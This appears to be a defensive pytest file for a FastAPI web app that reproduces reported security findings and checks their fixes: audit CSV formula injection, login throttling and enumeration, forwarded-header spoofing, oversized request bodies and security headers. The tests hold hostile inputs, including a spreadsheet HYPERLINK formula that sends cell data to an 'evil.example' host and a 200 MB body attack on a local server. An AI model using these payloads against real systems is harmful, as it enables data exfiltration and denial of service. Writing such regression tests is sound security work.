"""Issue #22, web application: each hostile-client finding reproduced, and its class closed."""

from __future__ import annotations

import contextlib
import csv
import io
import re
import socket
import statistics
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import httpx
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import select

from radguard.db.models.web import AuditEvent, User
from radguard.db.session import Database
from radguard.web.accounts import SIGN_IN_FAILED
from radguard.web.app import create_app
from radguard.web.throttle import LoginThrottle
from tests.web.conftest import PASSWORD


def _attempt(c: TestClient, username: str, password: str, **headers: str) -> httpx.Response:
    page = c.get("/login")
    token = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
    assert token, page.text
    return c.post("/login", data={"username": username, "password": password, "csrf_token": token.group(1)},
                  headers=headers, follow_redirects=False)


def _message(r: httpx.Response) -> str:
    m = re.search(r'<p class="error"[^>]*>(.*?)</p>', r.text, re.S)
    assert m, r.text
    return m.group(1)


class FakeClock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


# --- 1. CSV formula injection -------------------------------------------------------------

def test_audit_csv_neutralises_what_an_anonymous_visitor_typed(app: FastAPI, web_db: Database,
                                                             client_for: Callable[[str], TestClient]) -> None:
    payload = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    with TestClient(app, base_url="https://testserver") as anon:
        assert _attempt(anon, payload, "wrong password!!").status_code == 401
        assert _attempt(anon, "\t=1+1", "wrong password!!").status_code == 401
    text = client_for("admin").get("/admin/audit.csv").text
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    failed = [r for r in rows if r["action"] == "login.failed"]
    assert len(failed) == 2
    for row in rows:
        for value in row.values():
            assert not value[:1] or (value[0] not in "=+-@\t\r" and not value[0].isspace()), row
    assert all(r["actor"] == "anonymous" for r in failed)
    assert "HYPERLINK" in text  # kept as text, in the detail cell
    # whatever reaches an audit cell (targets, actors from other paths) goes through the same writer
    from radguard.web.audit import export_csv, record

    with web_db.transaction() as s:
        record(s, payload, "x.test", target="@SUM(1)", ip="-1")
    with web_db.read() as s:
        last = list(csv.DictReader(io.StringIO(export_csv(s), newline="")))[-1]
    assert (last["actor"], last["target"], last["ip"]) == ("'" + payload, "'@SUM(1)", "'-1")


# --- 2. no lockout, no oracle ---------------------------------------------------------------

def test_failures_never_lock_an_admin_out(app: FastAPI, web_db: Database) -> None:
    clock = FakeClock()
    app.state.login_throttle = LoginThrottle(clock=clock)
    with TestClient(app, base_url="https://testserver") as attacker:
        for _ in range(12):
            assert _attempt(attacker, "admin", "not the password").status_code == 401
    clock.now += 61  # at most the account cap later, the real admin signs in from elsewhere
    with TestClient(app, base_url="https://testserver", client=("192.0.2.7", 4000)) as admin:
        r = _attempt(admin, "admin", PASSWORD)
        assert r.status_code == 303, r.text
    with web_db.read() as s:
        user = s.scalar(select(User).where(User.username == "admin"))
        assert user is not None and user.locked_until is None


def test_every_failure_gives_the_same_answer(app: FastAPI, web_db: Database) -> None:
    clock = FakeClock()
    app.state.login_throttle = LoginThrottle(free_per_account=2, clock=clock)
    with TestClient(app, base_url="https://testserver") as c:
        unknown = _attempt(c, "nobody-here", "not the password")
        wrong = _attempt(c, "assessor", "not the password")
        _attempt(c, "assessor", "not the password")
        throttled = _attempt(c, "assessor", PASSWORD)  # the right password, held back by the delay
    with web_db.transaction() as s:
        admin = s.scalar(select(User).where(User.username == "viewer"))
        assert admin is not None
        admin.active = False
    with TestClient(app, base_url="https://testserver", client=("192.0.2.8", 4000)) as c:
        disabled = _attempt(c, "viewer", PASSWORD)
    answers = [unknown, wrong, throttled, disabled]
    assert {r.status_code for r in answers} == {401}
    assert {_message(r) for r in answers} == {SIGN_IN_FAILED}
    assert "locked" not in throttled.text
    with web_db.read() as s:
        events = s.scalars(select(AuditEvent).where(AuditEvent.action.like("login.%"))).all()
        throttled_events = [e for e in events if e.action == "login.throttled"]
        assert len(throttled_events) == 1
        assert throttled_events[0].detail["username"] == "assessor" and throttled_events[0].detail["limit"] == "account"


def test_failure_timing_does_not_reveal_which_names_exist(app: FastAPI) -> None:
    app.state.login_throttle = LoginThrottle(free_per_account=1000, free_per_address=1000)

    def timed(c: TestClient, username: str) -> float:
        page = c.get("/login")
        token = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
        assert token
        start = time.perf_counter()
        r = c.post("/login", data={"username": username, "password": "not the password", "csrf_token": token.group(1)})
        took = time.perf_counter() - start
        assert r.status_code == 401
        return took

    with TestClient(app, base_url="https://testserver") as c:
        timed(c, "admin")  # warm up
        existing = statistics.median(timed(c, "admin") for _ in range(5))
        unknown = statistics.median(timed(c, f"ghost{i}") for i in range(5))
        app.state.login_throttle = LoginThrottle(free_per_account=0, free_per_address=1000)
        timed(c, "contributor")
        throttled = statistics.median(timed(c, "contributor") for _ in range(5))
    times = [existing, unknown, throttled]
    # The reported leak was 5 ms against 350 ms (70x); every kind of failure now does the same work.
    assert max(times) / min(times) < 3, times


def test_delays_grow_per_account_and_per_address() -> None:
    clock = FakeClock()
    t = LoginThrottle(free_per_account=2, free_per_address=4, base_delay=1.0, account_cap=60, address_cap=900,
                      clock=clock)
    assert t.attempt("alice", "198.51.100.1").wait == 0
    assert t.attempt("alice", "198.51.100.1").wait == 0
    v = t.attempt("alice", "198.51.100.1")
    assert v.wait > 0 and v.key == "account" and v.audit
    assert not t.attempt("ALICE ", "198.51.100.2").audit  # same account, other address: still held, audited once
    clock.now += 1
    assert t.attempt("alice", "198.51.100.1").wait == 0
    assert t.attempt("alice", "198.51.100.1").wait == 2  # doubles: 1 s, then 2 s
    # one address spraying many names is held back by the address limit
    for name in ("a", "b"):
        assert t.attempt(name, "203.0.113.9").wait == 0
    for name in ("c", "d"):
        t.attempt(name, "203.0.113.9")
    v = t.attempt("e", "203.0.113.9")
    assert v.key == "address" and v.wait > 0
    assert t.delay("account", 500) == 60 and t.delay("address", 500) == 900


def test_forwarded_for_is_believed_only_from_a_trusted_proxy(web_db: Database) -> None:
    direct = create_app(web_db)
    proxied = create_app(web_db, trusted_proxies=["10.0.0.5"])
    for application in (direct, proxied):
        # a stopped clock: on a loaded machine a second attempt could otherwise come after the 1 s delay
        application.state.login_throttle = LoginThrottle(free_per_account=100, free_per_address=1,
                                                         clock=lambda: 1000.0)
    spoof = {"X-Forwarded-For": "198.51.100.99"}
    with TestClient(direct, base_url="https://testserver", client=("192.0.2.50", 1)) as c:
        assert _attempt(c, "ghost1", "x" * 12, **spoof).status_code == 401
        # a forged header does not earn a fresh address: the second try is throttled by the peer's address
        assert _attempt(c, "ghost2", "x" * 12, **{"X-Forwarded-For": "198.51.100.100"}).status_code == 401
    with TestClient(proxied, base_url="https://testserver", client=("10.0.0.5", 1)) as c:
        assert _attempt(c, "ghost3", "x" * 12, **{"X-Forwarded-For": "1.2.3.4, 198.51.100.7"}).status_code == 401
    with web_db.read() as s:
        rows = s.scalars(select(AuditEvent).where(AuditEvent.action.like("login.%")).order_by(AuditEvent.id)).all()
        assert [(e.action, e.ip) for e in rows] == [
            ("login.failed", "192.0.2.50"), ("login.throttled", "192.0.2.50"), ("login.failed", "198.51.100.7")]


# --- 3. request bodies are capped before parsing ---------------------------------------------

def test_big_or_multipart_bodies_are_refused_before_parsing(app: FastAPI) -> None:
    with TestClient(app, base_url="https://testserver") as c:
        page = c.get("/login")
        token = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
        assert token
        r = c.post("/login", files={"username": ("u.bin", b"A" * 4096)},
                   data={"password": "x", "csrf_token": token.group(1)})
        assert r.status_code == 415 and r.headers["x-frame-options"] == "DENY"
        r = c.post("/login", content=b"username=" + b"A" * 100_000, headers={
            "content-type": "application/x-www-form-urlencoded"})
        assert r.status_code == 413 and "content-security-policy" in r.headers

        def chunks() -> object:
            for _ in range(64):
                yield b"A" * 4096

        r = c.post("/login", content=chunks(), headers={"content-type": "application/x-www-form-urlencoded"})
        assert r.status_code == 413


def _rss_kib(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    raise AssertionError("no VmRSS")


def test_a_real_server_refuses_a_200_mb_sign_in_without_reading_it(web_db: Database, tmp_path: Path) -> None:
    """The reported attack on a real uvicorn process: RSS must not follow the body's size."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    script = (
        "import sys, uvicorn\n"
        "from radguard.db.session import open_database\n"
        "from radguard.web.app import create_app\n"
        "uvicorn.run(create_app(open_database(sys.argv[1])), host='127.0.0.1', port=int(sys.argv[2]),"
        " log_level='warning')\n"
    )
    server = subprocess.Popen([sys.executable, "-c", script, str(web_db.engine.url), str(port)])
    try:
        deadline = time.monotonic() + 30
        while True:
            try:
                if httpx.get(f"http://127.0.0.1:{port}/healthz").status_code == 200:
                    break
            except httpx.TransportError:
                pass
            assert time.monotonic() < deadline and server.poll() is None, "server did not start"
            time.sleep(0.1)
        before = _rss_kib(server.pid)
        head = (f"POST /login HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: multipart/form-data; boundary=b\r\n"
                f"Content-Length: {200 * 1024 * 1024}\r\n\r\n").encode()
        with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
            s.sendall(head + b'--b\r\nContent-Disposition: form-data; name="username"; filename="u"\r\n\r\n')
            assert s.recv(200).startswith(b"HTTP/1.1 415"), "refused from the headers alone"
        # no Content-Length and not multipart: counted as it arrives and cut off at the cap
        head = (b"POST /login HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                b"Transfer-Encoding: chunked\r\n\r\n")
        sent = 0
        chunk = b"%x\r\n" % (1024 * 1024) + b"A" * (1024 * 1024) + b"\r\n"
        with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
            s.sendall(head + b"9\r\nusername=\r\n")
            try:
                for _ in range(200):
                    s.sendall(chunk)
                    sent += 1
            except OSError:
                pass  # the server answered and closed: the rest was never read
            answer = b""
            with contextlib.suppress(OSError):
                answer = s.recv(200)
        after = _rss_kib(server.pid)
        # uvicorn may drain (and discard) the rest of the body after the 413; it is never kept
        assert answer.startswith(b"HTTP/1.1 413"), (sent, answer)
        assert after - before < 40 * 1024, f"server RSS grew by {(after - before) // 1024} MiB"
    finally:
        server.terminate()
        server.wait(10)


# --- 9. numbers in paths, error headers, HSTS, Permissions-Policy ----------------------------

def test_huge_numbers_in_paths_are_404_with_headers(client_for: Callable[[str], TestClient]) -> None:
    c = client_for("admin")
    for path in ("/findings/99999999999999999999", "/inventory/99999999999999999999",
                 "/checklists/-99999999999999999999", "/api/v1/assets/99999999999999999999"):
        r = c.get(path)
        assert r.status_code == 404, (path, r.status_code)
        assert r.headers["content-security-policy"] and r.headers["permissions-policy"], path
    r = c.get("/findings/9223372036854775807")  # the largest database integer: a plain "no such finding"
    assert r.status_code == 404
    assert c.get("/admin/audit?page=99999999999999999999").status_code == 422


def test_unhandled_errors_carry_the_security_headers(web_db: Database) -> None:
    app = create_app(web_db)

    @app.get("/boom", include_in_schema=False)
    async def boom() -> None:
        raise RuntimeError("a bug")

    with TestClient(app, base_url="https://testserver", raise_server_exceptions=False) as c:
        r = c.get("/boom", headers={"accept": "text/html"})
    assert r.status_code == 500 and "a bug" not in r.text
    assert r.headers["x-content-type-options"] == "nosniff" and "frame-ancestors" in r.headers[
        "content-security-policy"]


def test_hsts_only_over_tls_and_permissions_policy_always(web_db: Database) -> None:
    app = create_app(web_db)
    with TestClient(app, base_url="https://testserver") as c:
        r = c.get("/login")
        assert r.headers["strict-transport-security"].startswith("max-age=")
        assert "camera=()" in r.headers["permissions-policy"]
    with TestClient(app, base_url="http://testserver") as c:
        r = c.get("/login", headers={"X-Forwarded-Proto": "https"})  # not from a trusted proxy
        assert "strict-transport-security" not in r.headers
        assert "permissions-policy" in r.headers
